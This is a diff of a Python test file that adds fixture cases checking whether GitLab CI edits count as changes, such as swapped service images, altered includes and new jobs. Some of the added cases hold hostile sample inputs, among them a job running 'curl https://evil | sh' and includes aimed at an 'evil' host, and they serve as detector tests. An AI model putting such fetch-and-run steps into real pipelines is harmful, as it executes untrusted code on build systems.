@@ -116,6 +116,16 @@ CHANGED: list[tuple[str, str, str]] = [
     ("nuxt.config.ts", "", 'script: [{ src: "https://evil/x.js" }]\n'),
     # Pipelines.
     (".gitlab-ci.yml", "a:\n  services:\n  - postgres:15\n", "a:\n  services:\n  - postgres:16\n"),
+    # Images on a line of their own, whatever their form, and in lists and variables.
+    (".gitlab-ci.yml", "a:\n  services:\n  - postgres:alpine\n", "a:\n  services:\n  - postgres:bookworm\n"),
+    (".gitlab-ci.yml", "a:\n  services:\n  - postgres\n", "a:\n  services:\n  - evil\n"),
+    (".gitlab-ci.yml", "a:\n  services:\n  - reg.test/a/b\n", "a:\n  services:\n  - reg.test/a/evil\n"),
+    (".gitlab-ci.yml", "a:\n  services: [postgres:15]\n", "a:\n  services: [evil:15]\n"),
+    (".gitlab-ci.yml", "a:\n  services:\n  - name: pg\n    alias: db\n  - redis\n", "a:\n  services:\n  - name: pg\n    alias: db\n  - evil\n"),
+    (".gitlab-ci.yml", "a:\n  parallel:\n    matrix:\n    - IMAGE: [node:lts]\n", "a:\n  parallel:\n    matrix:\n    - IMAGE: [evil:lts]\n"),
+    (".gitlab-ci.yml", "variables:\n  IMG: node:lts\n", "variables:\n  IMG: evil:lts\n"),
+    (".gitlab-ci.yml", "include:\n- 'https://a.test/x.yml'\n", "include:\n- 'https://evil.test/x.yml'\n"),
+    (".gitlab-ci.yml", "a:\n  script: make\n", "a:\n  script: make\nb:\n  script:\n  - curl https://evil | sh\n"),
     (".gitlab-ci.yml", "include:\n- component: gitlab.com/a/b@1.0\n", "include:\n- component: gitlab.com/a/b@2.0\n"),
     ("azure-pipelines.yml", "- task: NodeTool@0\n  inputs:\n    versionSpec: '18.x'\n", "- task: NodeTool@0\n  inputs:\n    versionSpec: '20.x'\n"),
     ("bitbucket-pipelines.yml", "- pipe: atlassian/x:1.0\n", "- pipe: atlassian/x:2.0\n"),
@@ -236,6 +246,9 @@ UNCHANGED: list[tuple[str, str, str, str]] = [
     ("a picture's address", "content/a.yml", "", "heroImage: https://a.example:80/b\n"),
     ("a protocol", "infra/main.tf", "", 'minimum_tls_version = "1.2"\n'),
     ("another object of a cluster", "clusters/a.yaml", "kind: Service\nversion: 1\n", "kind: Service\nversion: 2\n"),
+    ("a pipeline's own command", ".gitlab-ci.yml", "a:\n  script:\n  - !reference [.b, script]\n  - make a\n", "a:\n  script:\n  - !reference [.b, script]\n  - make b\n"),
+    ("when a job runs", ".gitlab-ci.yml", "stages: [a]\na:\n  stage: a\n  needs: [b:c]\n  only: [main]\n", "stages: [a, b]\na:\n  stage: b\n  needs: [d:e]\n  rules:\n  - if: $CI\n"),
+    ("a file of the repository", ".gitlab-ci.yml", "include:\n- local: a.yml\n", "include:\n- local: b.yml\n"),
     ("an installed command's name", "pyproject.toml", "[project]\nname='a'\n", "[project]\nname='a'\n[project.scripts]\na='a:b'\n"),
 ]  # fmt: skip
 
